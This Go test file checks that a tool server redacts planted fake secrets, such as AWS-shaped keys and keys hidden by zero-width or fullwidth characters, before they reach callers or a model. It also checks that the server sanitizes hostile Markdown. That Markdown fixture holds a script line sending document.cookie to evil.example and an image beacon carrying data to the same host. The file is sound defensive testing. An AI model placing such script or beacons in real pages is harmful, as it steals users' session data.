package security_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"hash/fnv"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/arrowhead-go/arrowhead/adapters/wire"
	"github.com/arrowhead-go/arrowhead/core/coretest"
	"github.com/arrowhead-go/arrowhead/core/security"
	"github.com/arrowhead-go/arrowhead/core/security/securitytest"
	"github.com/arrowhead-go/arrowhead/ports"
)

// leakSet is every planted raw value and the fragments whose presence in
// any output means it leaked.
type leakSet struct {
	names []string
	frags [][]string
}

func (l *leakSet) add(name string, frags ...string) {
	var keep []string
	for _, f := range frags {
		if len(f) >= 6 {
			keep = append(keep, f)
		}
	}
	if len(keep) > 0 {
		l.names = append(l.names, name)
		l.frags = append(l.frags, keep)
	}
}

// check reports every fragment found in any of texts.
func (l *leakSet) check(t *testing.T, where string, texts []string) {
	t.Helper()
	for i, frags := range l.frags {
		for _, f := range frags {
			for _, s := range texts {
				if strings.Contains(s, f) {
					t.Errorf("%s: %s leaked (%q)", where, l.names[i], f)
					break
				}
			}
		}
	}
}

var placeholderRE = regexp.MustCompile(`\[REDACTED:[A-Z0-9_]+:[0-9a-f]{12}\]`)

// replacedValues is what the scanner replaces in text on its own: the
// planted records' raw values (their detection and types are asserted by
// TestPlantedSecretsSameCountInOneFile; here they are what must never
// come back through any path).
func replacedValues(s *security.Scanner, text string) []string {
	red, _ := s.Redact(text)
	parts := placeholderRE.Split(red, -1)
	var out []string
	pos := len(parts[0])
	for i := 1; i < len(parts); i++ {
		next := parts[i]
		end := len(text)
		if i < len(parts)-1 || next != "" {
			if next == "" {
				continue
			}
			k := strings.Index(text[pos+1:], next)
			if k < 0 {
				break
			}
			end = pos + 1 + k
			if i == len(parts)-1 {
				end = len(text) - len(next)
			}
		}
		out = append(out, text[pos:end])
		pos = end + len(next)
	}
	return out
}

func isBase64Line(l string) bool {
	l = strings.TrimSpace(l)
	return len(l) >= 16 && strings.Trim(l, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=") == ""
}

// strs collects every string in a decoded JSON value.
func strs(v any, out []string) []string {
	switch x := v.(type) {
	case string:
		out = append(out, x)
	case map[string]any:
		for _, e := range x {
			out = strs(e, out)
		}
	case []any:
		for _, e := range x {
			out = strs(e, out)
		}
	}
	return out
}

// fakeModel is an OpenAI-compatible chat and embeddings endpoint that keeps
// every request body it receives. Its chat answer echoes a raw planted
// secret, as a model that read one might.
type fakeModel struct {
	mu     sync.Mutex
	bodies []any
	echo   string
}

func (m *fakeModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	raw, _ := io.ReadAll(r.Body)
	var body map[string]any
	_ = json.Unmarshal(raw, &body)
	m.mu.Lock()
	m.bodies = append(m.bodies, body)
	m.mu.Unlock()
	w.Header().Set("Content-Type", "application/json")
	if strings.HasSuffix(r.URL.Path, "/embeddings") {
		var data []any
		inputs, _ := body["input"].([]any)
		for i, in := range inputs {
			s, _ := in.(string)
			h := fnv.New64a()
			h.Write([]byte(s))
			seed := h.Sum64()
			vec := make([]float64, 8)
			for j := range vec {
				vec[j] = float64((seed>>(j*8))&0xff)/255 + 0.01
			}
			data = append(data, map[string]any{"object": "embedding", "index": i, "embedding": vec})
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"data": data})
		return
	}
	answer := "It reads its settings; one of them is " + m.echo + "."
	if strings.Contains(string(raw), "Passages:") {
		answer = "[0]"
	}
	_ = json.NewEncoder(w).Encode(map[string]any{"choices": []any{map[string]any{"message": map[string]any{"content": answer}}}})
}

func (m *fakeModel) requests() []any {
	m.mu.Lock()
	defer m.mu.Unlock()
	return append([]any(nil), m.bodies...)
}

// TestNoRawSecretThroughAnyReadPathOrModelRequest is the one redaction
// rule end to end: the 43 planted secrets, 43 current key shapes,
// the server's own configured secrets and keys hidden by invisible or
// fullwidth characters are planted in a repository, a document corpus, the
// read_file sandbox, a memory and a kv entry; every read tool and every
// request the server sends to a model (chat and embeddings, captured by a
// fake model) carries none of them raw.
func TestNoRawSecretThroughAnyReadPathOrModelRequest(t *testing.T) {
	scanner := security.NewRandomScanner()
	var leaks leakSet
	var lines []string
	for i, r := range readPlanted(t) {
		lines = append(lines, r.text)
		for _, v := range replacedValues(scanner, r.text) {
			frags := []string{v}
			if len(v) >= 24 {
				frags = append(frags, v[len(v)/2-8:len(v)/2+8])
			}
			for _, l := range strings.Split(v, "\n") {
				if len(l) >= 16 && !strings.HasPrefix(l, "-----") {
					frags = append(frags, l)
				}
			}
			leaks.add("planted record "+string(rune('0'+i/10))+string(rune('0'+i%10))+" "+r.typ, frags...)
		}
	}
	modern := securitytest.Corpus()
	for _, p := range modern {
		leaks.add(p.Name, securitytest.Fragments(p)...)
	}
	lines = append(lines, securitytest.File(modern))

	// The server's own secrets, shaped like nothing a vendor issues.
	llmKey := "ah-llm-Zq9w8E7r6T5y4U3i2O1p"
	embedKey := "embedding/KEY.91x7Qv3Lm2Np8"
	signing := "whsec_" + base64.StdEncoding.EncodeToString([]byte("signing-secret-for-redaction-test"))
	lines = append(lines, "copied llm key: "+llmKey, "embedding "+embedKey, "signing "+signing)
	leaks.add("ARROWHEAD_LLM_API_KEY", llmKey)
	leaks.add("ARROWHEAD_EMBEDDING_API_KEY", embedKey)
	leaks.add("ARROWHEAD_NOTIFY_SIGNING_SECRET", signing, signing[6:30])
	// Normalized forms: an AWS key split by invisible characters and one
	// written in fullwidth letters.
	zw := "AKIA\u200bRT5Y7U9I1O3P5A7S"
	fw := "ＡＫＩＡＤ２Ｆ４Ｇ６Ｈ８Ｊ１Ｋ３Ｌ５Ｚ７"
	lines = append(lines, "hidden id "+zw+" here", "wide id "+fw+" here")
	leaks.add("zero-width-split AWS key", zw, "AKIART5Y7U9I1O3P5A7S", "RT5Y7U9I1O3P5A7S")
	leaks.add("fullwidth AWS key", fw, "AKIAD2F4G6H8J1K3L5Z7", "Ｄ２Ｆ４Ｇ６Ｈ８Ｊ１")
	file := strings.Join(lines, "\n") + "\n"

	model := &fakeModel{echo: modern[15].Value} // an OpenAI project key
	srv := httptest.NewServer(model)
	t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)

	base := t.TempDir()
	coretest.WriteFiles(t, base, map[string]string{
		"repo/planted/config.txt": file,
		"repo/README.md":          "# Service\n\nSee planted/config.txt.\n",
		"docs/planted.md":         "# Settings\n\n" + file,
		"docs/planted.txt":        file,
		"sandbox/planted.txt":     file,
	})
	env := map[string]string{"ARROWHEAD_PROFILE": "full", "ARROWHEAD_REPO_ROOT": filepath.Join(base, "repo"),
		"ARROWHEAD_JAIL_ROOT": filepath.Join(base, "sandbox"), "ARROWHEAD_DOCS_ROOT": filepath.Join(base, "docs"),
		"ARROWHEAD_DATA_DIR": filepath.Join(base, "data"), "ARROWHEAD_MEMORY_ROOT": filepath.Join(base, "memory"),
		"ARROWHEAD_RATE_LIMIT_ENABLED": "false", "ARROWHEAD_PACK_MAX_TOKENS": "100000", "ARROWHEAD_SEARCH_REGEX_ENABLED": "true", "ARROWHEAD_SEARCH_MAX_RESULTS": "1000",
		"ARROWHEAD_LLM_PROVIDER": "openai", "ARROWHEAD_LLM_ENDPOINT": srv.URL + "/v1/chat/completions",
		"ARROWHEAD_LLM_API_KEY": llmKey, "ARROWHEAD_LLM_INTERNAL_HOSTS": u.Host,
		"ARROWHEAD_EMBEDDING_PROVIDER": "http", "ARROWHEAD_EMBEDDING_ENDPOINT": srv.URL + "/v1/embeddings",
		"ARROWHEAD_EMBEDDING_API_KEY": embedKey, "ARROWHEAD_EMBEDDING_DIMENSIONS": "8",
		"ARROWHEAD_NOTIFY_SIGNING_SECRET": signing, "ARROWHEAD_NOTIFY_ALLOWLIST": "https://hooks.example.com/in",
		// Read content goes back out to the model on purpose: its redaction
		// must hold without the egress guard, which would hold those calls
		// (its own tests cover that).
		"ARROWHEAD_EGRESS_GUARD": "off"}
	rt, err := wire.Build(t.Context(), coretest.Settings(t, env), wire.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = rt.Close(context.Background()) })
	op := ports.Operator()

	call := func(tool string, args map[string]any) []string {
		t.Helper()
		res, te := coretest.Call(t, rt.App, op, tool, args)
		if te != nil {
			t.Fatalf("%s: refused: %s", tool, te.Message)
		}
		raw, _ := json.Marshal(res.Structured())
		var generic any
		_ = json.Unmarshal(raw, &generic)
		return strs(generic, []string{res.Text})
	}
	// Every output must still carry the content (a refusal or an empty
	// answer would pass the leak check for the wrong reason) and show the
	// redaction.
	redacted := func(where string, out []string, want string) {
		t.Helper()
		all := strings.Join(out, "\n")
		if !strings.Contains(all, "[REDACTED:") || want != "" && !strings.Contains(all, want) {
			t.Errorf("%s: no redacted content in the output: %.300s", where, all)
		}
		leaks.check(t, where, out)
	}

	redacted("read_file", call("read_file", map[string]any{"path": "planted.txt"}), "setting aws-access-key-id")
	redacted("code_read", call("code_read", map[string]any{"path": "planted/config.txt"}), "setting aws-access-key-id")
	redacted("doc_read markdown", call("doc_read", map[string]any{"path": "planted.md"}), "setting aws-access-key-id")
	redacted("doc_read text", call("doc_read", map[string]any{"path": "planted.txt"}), "setting aws-access-key-id")
	for _, q := range []string{"setting", "KEY", "=", ":", "token", "password", "private", "BEGIN", "sk-", "AKIA", "ghp_", "xox", "hidden id", "wide id", "copied llm key", "embedding", "signing"} {
		leaks.check(t, "code_search "+q, call("code_search", map[string]any{"query": q}))
		leaks.check(t, "doc_search "+q, call("doc_search", map[string]any{"query": q}))
	}
	// Every line of the planted file, searched for with a regular
	// expression that matches all of them.
	redacted("code_search all lines", call("code_search", map[string]any{"query": ".", "use_regex": true}), "")
	redacted("doc_search all lines", call("doc_search", map[string]any{"query": ".", "use_regex": true, "path_prefix": "planted.txt"}), "")
	redacted("workingset_update", call("workingset_update", map[string]any{"name": "ws", "action": "pin", "items": []any{
		map[string]any{"kind": "doc", "identifier": "planted.md", "note": "key " + modern[0].Value},
		map[string]any{"kind": "repo_file", "identifier": "planted/config.txt", "note": "token " + modern[2].Value},
	}}), "")
	redacted("workingset_get", call("workingset_get", map[string]any{"name": "ws"}), "")
	redacted("pack_context", call("pack_context", map[string]any{"query": "settings aws key token", "working_set": "ws"}), "setting aws-access-key-id")
	leaks.check(t, "memory_store", call("memory_store", map[string]any{"namespace": "ops", "content": file}))
	leaks.check(t, "memory_list", call("memory_list", map[string]any{"namespace": "ops"}))
	redacted("memory_search", call("memory_search", map[string]any{"namespace": "ops", "query": "aws key settings"}), "setting aws-access-key-id")
	leaks.check(t, "kv_set", call("kv_set", map[string]any{"key": "deploy", "value": file}))
	redacted("kv_get", call("kv_get", map[string]any{"key": "deploy"}), "setting aws-access-key-id")

	// Model requests: code_explain reads the file, summarize_diff and
	// rerank send what the caller gave them; the answers echo a raw key.
	before := len(model.requests())
	redacted("code_explain", call("code_explain", map[string]any{"path": "planted/config.txt"}), "It reads its settings")
	diff := "--- a/planted/config.txt\n+++ b/planted/config.txt\n@@ -0,0 +1 @@\n+" + strings.ReplaceAll(strings.TrimSuffix(file, "\n"), "\n", "\n+") + "\n"
	redacted("summarize_diff", call("summarize_diff", map[string]any{"diff": diff}), "It reads its settings")
	// Passages of whole lines (a private key's lines kept together).
	var candidates []any
	cur := ""
	for _, l := range strings.SplitAfter(file, "\n") {
		if len(cur)+len(l) > 1500 && !strings.HasPrefix(strings.TrimSpace(l), "-----END") && !isBase64Line(l) {
			candidates = append(candidates, cur)
			cur = ""
		}
		cur += l
	}
	candidates = append(candidates, cur)
	for len(candidates) > 0 {
		n := min(len(candidates), 20)
		call("rerank", map[string]any{"query": "which passage holds the key " + modern[2].Value, "candidates": candidates[:n]})
		candidates = candidates[n:]
	}
	reqs := model.requests()
	if len(reqs) <= before+2 {
		t.Fatalf("the model saw %d requests", len(reqs)-before)
	}
	chats, embeds := 0, 0
	for i, body := range reqs {
		texts := strs(body, nil)
		if _, ok := body.(map[string]any)["input"]; ok {
			embeds++
		} else {
			chats++
		}
		leaks.check(t, "model request "+string(rune('a'+i%26)), texts)
	}
	if chats < 3 || embeds < 1 {
		t.Errorf("captured %d chat and %d embedding requests; want the assist tools' and memory's", chats, embeds)
	}
	if !strings.Contains(strings.Join(strs(reqs[before], nil), "\n"), "[REDACTED:") {
		t.Error("code_explain's request carries no placeholder")
	}
	if n := len(leaks.names); n < 43+43+5 {
		t.Errorf("only %d planted values checked", n)
	}
}

// TestRedactReadsOff: ARROWHEAD_REDACT_READS=false returns content raw to
// the caller, while what goes to a model stays redacted.
func TestRedactReadsOff(t *testing.T) {
	modern := securitytest.Corpus()
	file := securitytest.File(modern)
	model := &fakeModel{echo: "nothing"}
	srv := httptest.NewServer(model)
	t.Cleanup(srv.Close)
	u, _ := url.Parse(srv.URL)
	base := t.TempDir()
	coretest.WriteFiles(t, base, map[string]string{"repo/config.txt": file})
	if err := os.MkdirAll(filepath.Join(base, "sandbox"), 0o755); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"ARROWHEAD_PROFILE": "coding", "ARROWHEAD_REPO_ROOT": filepath.Join(base, "repo"),
		"ARROWHEAD_JAIL_ROOT": filepath.Join(base, "sandbox"), "ARROWHEAD_DOCS_ROOT": filepath.Join(base, "docs"),
		"ARROWHEAD_DATA_DIR": filepath.Join(base, "data"), "ARROWHEAD_RATE_LIMIT_ENABLED": "false",
		"ARROWHEAD_REDACT_READS": "false",
		"ARROWHEAD_LLM_PROVIDER": "openai", "ARROWHEAD_LLM_ENDPOINT": srv.URL + "/v1/chat/completions",
		"ARROWHEAD_LLM_API_KEY": "ah-llm-key-for-the-off-test", "ARROWHEAD_LLM_INTERNAL_HOSTS": u.Host}
	rt, err := wire.Build(t.Context(), coretest.Settings(t, env), wire.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = rt.Close(context.Background()) })
	res, te := coretest.Call(t, rt.App, ports.Operator(), "code_read", map[string]any{"path": "config.txt"})
	if te != nil {
		t.Fatal(te.Message)
	}
	if !strings.Contains(res.Text, modern[15].Value) {
		t.Error("code_read redacted with ARROWHEAD_REDACT_READS=false")
	}
	if _, te := coretest.Call(t, rt.App, ports.Operator(), "code_explain", map[string]any{"path": "config.txt"}); te != nil {
		t.Fatal(te.Message)
	}
	var leaks leakSet
	for _, p := range modern {
		leaks.add(p.Name, securitytest.Fragments(p)...)
	}
	reqs := model.requests()
	if len(reqs) != 1 {
		t.Fatalf("%d model requests", len(reqs))
	}
	leaks.check(t, "model request with reads unredacted", strs(reqs[0], nil))
}

// TestHostileMarkdownSanitizedAlikeEverywhere plants a Markdown document
// with an image beacon, a script and an unterminated comment: doc_read and
// pack_context (the document pinned) return the same sanitized text under
// content_type=markdown, memory recall and search return it as the text
// they say it is, and none of the hostile constructs survives anywhere a
// renderer would act on them.
func TestHostileMarkdownSanitizedAlikeEverywhere(t *testing.T) {
	hostile := "# Notes\n\nSee ![status](https://evil.example/beacon.png?d=leak) for status.\n\n" +
		"<script>fetch('https://evil.example/x?c='+document.cookie)</script>\n\n" +
		"Visible paragraph with hostile words.\n\n<!-- an unterminated comment hides the rest\n\nTail words.\n"
	base := t.TempDir()
	coretest.WriteFiles(t, base, map[string]string{"docs/hostile.md": hostile, "docs/data.json": `{"note": "<script>x</script>"}`,
		"repo/README.md": "# r\n"})
	if err := os.MkdirAll(filepath.Join(base, "sandbox"), 0o755); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"ARROWHEAD_PROFILE": "full", "ARROWHEAD_REPO_ROOT": filepath.Join(base, "repo"),
		"ARROWHEAD_JAIL_ROOT": filepath.Join(base, "sandbox"), "ARROWHEAD_DOCS_ROOT": filepath.Join(base, "docs"),
		"ARROWHEAD_DATA_DIR": filepath.Join(base, "data"), "ARROWHEAD_MEMORY_ROOT": filepath.Join(base, "memory"),
		"ARROWHEAD_RATE_LIMIT_ENABLED": "false"}
	rt, err := wire.Build(t.Context(), coretest.Settings(t, env), wire.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = rt.Close(context.Background()) })
	op := ports.Operator()
	call := func(tool string, args map[string]any) string {
		t.Helper()
		res, te := coretest.Call(t, rt.App, op, tool, args)
		if te != nil {
			t.Fatalf("%s: %s", tool, te.Message)
		}
		return res.Text
	}
	// body is a frame's content: between the blank line after the
	// notice and the closing marker.
	body := func(frame string) string {
		_, rest, _ := strings.Cut(frame, "notice: ")
		_, rest, _ = strings.Cut(rest, "\n\n")
		i := strings.LastIndex(rest, "\n\n<<< UNTRUSTED-DATA-END")
		return rest[:max(i, 0)]
	}
	inert := func(where, text string) {
		t.Helper()
		for _, bad := range []string{"<script", "![", "<!--", "](https://evil.example"} {
			if strings.Contains(text, bad) {
				t.Errorf("%s keeps %q: %q", where, bad, text)
			}
		}
	}
	read := call("doc_read", map[string]any{"path": "hostile.md"})
	if !strings.Contains(read, "content_type=markdown") || !strings.Contains(read, "Visible paragraph") {
		t.Fatalf("doc_read: %s", read)
	}
	inert("doc_read", body(read))

	call("workingset_update", map[string]any{"name": "h", "action": "pin", "items": []any{
		map[string]any{"kind": "doc", "identifier": "hostile.md"}, map[string]any{"kind": "doc", "identifier": "data.json"}}})
	pack := call("pack_context", map[string]any{"query": "notes", "working_set": "h"})
	i := strings.Index(pack, "identifier=`\"hostile.md\"`")
	if i < 0 {
		t.Fatalf("pack_context packed no hostile.md frame: %s", pack)
	}
	begin := strings.LastIndex(pack[:i], "<<< UNTRUSTED-DATA-BEGIN")
	end := strings.Index(pack[i:], "<<< UNTRUSTED-DATA-END")
	packed := pack[begin : i+end+60]
	if !strings.Contains(packed, "content_type=markdown") {
		t.Errorf("pack_context labels the Markdown document otherwise: %s", packed)
	}
	inert("pack_context", body(packed))
	if got, want := body(packed), body(read); got != want {
		t.Errorf("pack_context and doc_read differ:\npack %q\nread %q", got, want)
	}
	j := strings.Index(pack, "identifier=`\"data.json\"`")
	if j < 0 || !strings.Contains(pack[j:j+200], "content_type=json") {
		t.Errorf("the pinned JSON document is not framed as json: %s", pack)
	}

	// Search returns lines as text and says so, each Markdown line
	// sanitized as doc_read sanitizes the document; recall returns the
	// memory as the text it was stored as.
	for _, q := range []string{"evil", "status", "unterminated"} {
		search := call("doc_search", map[string]any{"query": q})
		if !strings.Contains(search, "content_type=text") || !strings.Contains(search, "hostile.md:") {
			t.Errorf("doc_search %q: %s", q, search)
		}
		inert("doc_search "+q, body(search))
	}
	call("memory_store", map[string]any{"namespace": "n", "content": hostile})
	recall := call("memory_search", map[string]any{"namespace": "n", "query": "notes status"})
	if !strings.Contains(recall, "content_type=text") || !strings.Contains(recall, "Visible paragraph") {
		t.Errorf("memory_search frame: %s", recall)
	}
}
